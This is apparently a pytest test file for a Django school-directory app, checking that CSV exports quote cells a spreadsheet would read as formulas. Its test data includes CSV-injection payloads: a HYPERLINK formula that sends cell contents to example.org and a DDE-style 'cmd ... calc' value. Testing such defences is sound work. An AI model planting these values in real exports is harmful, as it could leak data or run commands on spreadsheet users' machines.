"""CSV exports: a cell that a spreadsheet would read as a formula is written as text."""

import csv
import io

import pytest
from django.urls import reverse

from annuaire.models import AafImport, ImportIssue, SiecleImport, SiecleIssue
from ent import csvsafe
from imports.models import TimetableImport

ATTACK = '=HYPERLINK("https://example.org/?x="&A1;"Cliquez")'


@pytest.mark.parametrize("value", [ATTACK, "+33 6 12", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_formula_prefixes_are_quoted(value):
    assert csvsafe.cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Dupont", "ligne 3", "", " =1", 12, -3, 1.5, None, "-3",
                                   "+4", "-2,5"])
def test_text_and_numbers_stay(value):
    assert csvsafe.cell_safe(value) == value


def test_writer_quotes_each_cell_and_keeps_semicolons():
    out = io.StringIO()
    csvsafe.writer(out).writerow(["a", ATTACK, 7])
    row = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert row == ["a", "'" + ATTACK, "7"]


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
            for cell in row]


def _no_formula(cells):
    return not [c for c in cells if c.startswith(csvsafe.FORMULA_PREFIXES)
                and not csvsafe._NUMBER.fullmatch(c)]


def test_timetable_bilan_csv(world, login):
    imp = TimetableImport.objects.create(
        etablissement=world.etab_a, status=TimetableImport.Status.BILAN,
        bilan={"counts": {"teachers_unmatched": 1, "courses": 3},
               "lists": {"teachers_unmatched": [ATTACK]}, "rooms": ["@salle"]})
    response = login(world.principal_a).get(reverse("imports:csv",
                                                    args=[world.etab_a.pk, imp.pk]))
    cells = _cells(response.content.decode("utf-8"))
    assert "'" + ATTACK in cells and _no_formula(cells)


def test_siecle_report_csv(world, login):
    imp = SiecleImport.objects.create(etablissement=world.etab_a, status="termine",
                                      created_by=world.principal_a)
    SiecleIssue.objects.create(siecle_import=imp, level=SiecleIssue.Level.values[0],
                               name=ATTACK, identifier="-1+1", message="@motif", file="=f.xml")
    response = login(world.principal_a).get(reverse("annuaire:siecle_import", args=[imp.pk]),
                                            {"format": "csv"})
    cells = _cells(b"".join(response.streaming_content).decode("utf-8"))
    assert "'" + ATTACK in cells and "'@motif" in cells and _no_formula(cells)


def test_aaf_issues_csv(world, login):
    imp = AafImport.objects.create(status=AafImport.Status.APPLIED)
    level = ImportIssue.Level.values[0]
    ImportIssue.objects.create(aaf_import=imp, level=level, code="x", identifier=ATTACK,
                               etab="+etab", message="-msg", fix="\t=1")
    response = login(world.academy_admin).get(
        reverse("annuaire:import_issues", args=[imp.pk, level]), {"format": "csv"})
    cells = _cells(b"".join(response.streaming_content).decode("utf-8"))
    assert "'" + ATTACK in cells and "'+etab" in cells and _no_formula(cells)
